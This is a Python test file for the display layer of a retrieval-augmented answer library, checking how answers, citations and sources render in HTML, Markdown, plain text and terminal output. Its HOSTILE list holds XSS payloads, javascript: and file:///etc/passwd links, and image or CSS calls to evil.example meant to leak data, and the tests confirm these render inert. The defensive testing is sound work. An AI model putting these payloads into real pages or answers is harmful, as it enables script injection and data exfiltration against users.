"""What people see: safe, complete, and the same words everywhere."""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from msgspec.structs import replace

from ragnb.answer import Answer
from ragnb.citations import MarkerReader
from ragnb.display import terminal
from ragnb.display.markup import to_html
from ragnb.display.static import mimebundle
from ragnb.documents import Locator
from ragnb.events import (
    Cancelled,
    Cited,
    Failed,
    Finished,
    Quote,
    Retrieved,
    Retrying,
    Routed,
    Started,
    Token,
    Used,
)
from tests.conftest import hits

PASSAGES = hits("Refunds take <b>five</b> days. Ask.", "Dogs & cats are welcome.", "Other.")


def log(*events, k=3):
    answer = Answer(clock=iter(n * 0.01 for n in range(10**6)).__next__)
    for event in (Started(answer_id="a", question="Why <i>?", k=k), *events):
        answer.append(event)
    return answer


def written(text, *end, citing=True):
    found = MarkerReader(PASSAGES)
    events = [Retrieved(hits=PASSAGES), Routed(model="openai:gpt-4o-mini", reason="you asked for it")]
    events.append(Token(text=text))
    events += found.feed(text) + found.close() if citing else []
    return log(*events, *end)


USED = Used(model="openai:gpt-4o-mini", input_tokens=1200, output_tokens=30, cost=0.00123)
DONE = (USED, Finished(reason="stop"))


def test_a_filter_is_told():
    """Beside the question stands of which documents it was asked."""
    answer = Answer()
    answer.append(Started(answer_id="a", question="Why?", k=3, where={"lang": "<de>"}))
    page = lxml_html.fromstring(mimebundle(answer)["text/html"])
    assert "Why? (where {'lang': '<de>'})" in " ".join(page.text_content().split())


def test_finished():
    """Text, chips, marked quotes, sources, model, times and cost are there in all three forms."""
    bundle = mimebundle(written("**Five** days [1].\n\n- dogs [2]", *DONE))
    assert set(bundle) == {"text/html", "text/markdown", "text/plain"}
    page = lxml_html.fromstring(bundle["text/html"])
    assert page.xpath("//strong/text()") == ["Five"]
    assert page.xpath("//sup[@class='ragnb-chip']/text()") == ["[1]", "[2]"]
    assert page.xpath("//mark/text()") == ["Refunds take <b>five</b> days.", "Dogs & cats are welcome."]
    assert "Why <i>?" in page.text_content()
    for part in ("1,200 tokens in, 30 out", "$0.0012", "first token", "openai:gpt-4o-mini", "doc0.md"):
        assert part in page.text_content()
    assert "1 more passage given to the model" in page.text_content()
    assert "> Refunds take &lt;b>five&lt;/b> days." in bundle["text/markdown"]
    assert "[2] Document 1 — Part, lines 1–3" in bundle["text/plain"]


def test_native_citations_get_numbers():
    """Citations without a marker have their number set behind what they support."""
    quote = Quote(2, PASSAGES[1].chunk.id, 0, 4, "Dogs")
    answer = written("Dogs may come. Yes.", Cited(start=0, end=13, quotes=(quote,)), *DONE, citing=False)
    bundle = mimebundle(answer)
    assert "Dogs may come[2]. Yes." in bundle["text/plain"]
    assert lxml_html.fromstring(bundle["text/html"]).xpath("//sup/text()") == ["[2]"]


@pytest.mark.parametrize(
    ("events", "said"),
    [
        ((), "Searching …"),
        ((Retrieved(hits=PASSAGES),), "3 passages found in"),
        ((Retrieved(hits=PASSAGES), Routed(model="m", reason="r")), "waiting for m …"),
        ((Token(text="a"),), "Writing …"),
        (
            (Retrying(fault="overloaded", message="It is busy.", attempt=1, wait=2.0),),
            "Trying again in 2.00 s",
        ),
        ((Token(text="a"), Cancelled()), "Cancelled after 1 token; the text so far is kept."),
        ((Failed(error="E", message="It broke.", advice="Mend it."),), "It broke. Mend it."),
        ((Token(text="a"), Failed(error="E", message="It broke.")), "The text so far is kept."),
        ((Token(text="a"), Finished(reason="length", advice="Raise max_tokens.")), "Raise max_tokens."),
    ],
)
def test_every_state_is_told_in_words(events, said):
    """Each phase and each trouble is a sentence, in every form."""
    for form in mimebundle(log(*events)).values():
        assert said in form


def test_sources_are_open_to_see_while_one_waits():
    """Before the first token the sources are shown one by one."""
    page = lxml_html.fromstring(mimebundle(log(Retrieved(hits=PASSAGES)))["text/html"])
    assert len(page.xpath("//details[@class='ragnb-source']")) == 3
    assert "more passage" not in page.text_content()


def test_an_unknown_price_is_unknown():
    """A price that is not known is never shown as nothing."""
    used = Used(model="openai:x", input_tokens=1, output_tokens=1)
    assert "price unknown" in mimebundle(written("a", used, Finished(reason="stop")))["text/plain"]


def test_no_events_at_all():
    """An empty log is shown as what it is."""
    assert "Starting" in mimebundle(Answer())["text/html"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input></form>",
    "<base href=//evil.example>",
    "<object data=//evil.example>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script>alert(1)&#x3C;/script>",
    "\ue0000\ue001 forged \ue00099\ue001",
    '<sup class="ragnb-chip">[9]</sup>',
    "<!-- --><script>alert(1)</script>",
    "<p style='background:url(//evil.example)'>x",
    "[x](//evil.example)",
    "[x](https://user:pass@evil.example)",
    "\x00<scr\x00ipt>",
]
ALLOWED = set(
    [
        "div",
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "s",
        "del",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "span",
        "sup",
        "details",
        "summary",
        "mark",
        "b",
    ]
)


def check_safe(html):
    page = lxml_html.fromstring(f"<div>{html}</div>")
    for element in page.iter():
        assert element.tag in ALLOWED, element.tag
        for name, value in element.attrib.items():
            assert name in {"href", "class", "style", "title", "target", "rel", "dir", "start"}, name
            assert "url(" not in value or name == "title"
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), value
    return page


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_are_inert(text):
    """Whatever the model says becomes text: no script, no image, no link but to a shown host."""
    page = check_safe(to_html(text, []))
    assert not page.xpath("//sup")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_documents_are_inert(text):
    """Whatever a document, its title or a question holds is shown as text."""
    passages = hits(text)
    answer = log(
        Retrieved(hits=passages),
        Routed(model="m", reason=text),
        Token(text="x [1]"),
        Cited(start=0, end=1, quotes=(Quote(1, "c", 0, len(text), text),), marker=(2, 5)),
        Failed(error="E", message=text, advice=text),
    )
    check_safe(mimebundle(answer)["text/html"])


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_load_nothing_in_markdown(text):
    """Nor does Markdown load an image or hold HTML, from the answer, a title, a quote or an error."""
    (hit,) = hits(text)
    hit = replace(hit, chunk=replace(hit.chunk, title=text, locator=Locator(heading=(text,))))
    answer = log(
        Retrieved(hits=(hit,)),
        Routed(model=text, reason=text),
        Token(text=text),
        Cited(start=0, end=len(text), quotes=(Quote(1, "c", 0, len(text), text),)),
        Failed(error="E", message=text, advice=text),
    )
    shown = MarkdownIt("commonmark").render(mimebundle(answer)["text/markdown"])
    page = lxml_html.fromstring(f"<div>{shown}</div>")
    assert {element.tag for element in page.iter()} <= ALLOWED
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in page.xpath("//@href"))


def test_code_in_one_quote_is_code_beside_another():
    """A stray backtick of one quote does not free what the next one holds in code."""
    first, second = "a ` b", "`![x](https://evil.example)`"
    (hit,) = hits(f"{first} {second}")
    quotes = (Quote(1, "c", 0, 5, first), Quote(1, "c", 6, 6 + len(second), second))
    answer = log(Retrieved(hits=(hit,)), Token(text="x"), Cited(start=0, end=1, quotes=quotes))
    assert "<img" not in MarkdownIt("commonmark").render(mimebundle(answer)["text/markdown"])


def test_no_form_holds_unseen_characters():
    """Escape sequences, bidi overrides and broken characters go from texts, titles, sources and errors."""
    text = "a\x1b[31m\x07\x00\u202e\u2066\x9b\ud800&#x202e;\r\nb"
    (hit,) = hits(text)
    hit = replace(
        hit, chunk=replace(hit.chunk, title=text, source=text, locator=Locator(heading=(text,), label=text))
    )
    answer = log(
        Retrieved(hits=(hit,)),
        Routed(model=text, reason=text),
        Token(text=text),
        Cited(start=0, end=len(text), quotes=(Quote(1, "c", 0, len(text), text),)),
        Failed(error="E", message=text, advice=text),
    )
    for form in mimebundle(answer).values():
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", form)
        assert "a[31m" in form
    assert "\n[1] a[31m" in mimebundle(answer)["text/plain"]


def test_what_reads_from_right_to_left_stays():
    """Joined emoji, right-to-left text and tabs are the same in every form."""
    text = "👩\u200d🚀 שלום\tمرحبا"
    for form in mimebundle(written(text, *DONE)).values():
        assert text in form


def test_plain_text_is_not_escaped():
    """In plain text what the model wrote stays, Markdown and HTML included."""
    text = "**Yes** <b> ![x](y) `[1, 2]`"
    assert mimebundle(written(text, *DONE))["text/plain"].startswith(text)


def test_names_with_underscores_stay():
    """Names such as __init__ are not taken for emphasis; asterisks are."""
    assert to_html("Call __init__ **now**, _x_.", []) == "<p>Call __init__ <strong>now</strong>, _x_.</p>\n"


def test_links_show_their_host():
    """A link says where it leads."""
    assert "docs</a> (evil.example)" in to_html("[docs](https://evil.example/x)", [])


def test_uncited_markers_are_text():
    """A number that was not cited is no chip, also where a definition would make it a link."""
    html = to_html("See [7].\n\n[7]: https://evil.example", [])
    assert "<sup" not in html


@given(st.text(st.characters(categories=["L", "N", "Zs"]), min_size=1))
def test_plain_words_are_all_there(text):
    """Nothing of an answer of plain words is lost."""
    shown = lxml_html.fromstring(f"<div>{to_html(text, [])}</div>").text_content()
    assert "".join(text.split()) == "".join(shown.split())


def test_an_answer_of_a_megabyte():
    """A very long answer is shown whole."""
    text = "word " * 200_000
    assert len(mimebundle(written(text, *DONE, citing=False))["text/html"]) > 1_000_000


def test_terminal():
    """The terminal shows sources before words, and no control character of a model's."""
    answer = written("Five\x1b[31m days\x07 [1].\u202e\ud800", *DONE)
    out = io.StringIO()
    terminal.show(answer, out)
    shown = out.getvalue()
    shown.encode()
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert shown.index("[3] Document 2") < shown.index("Five[31m days [1].")
    assert "“Refunds take <b>five</b> days.”" in shown
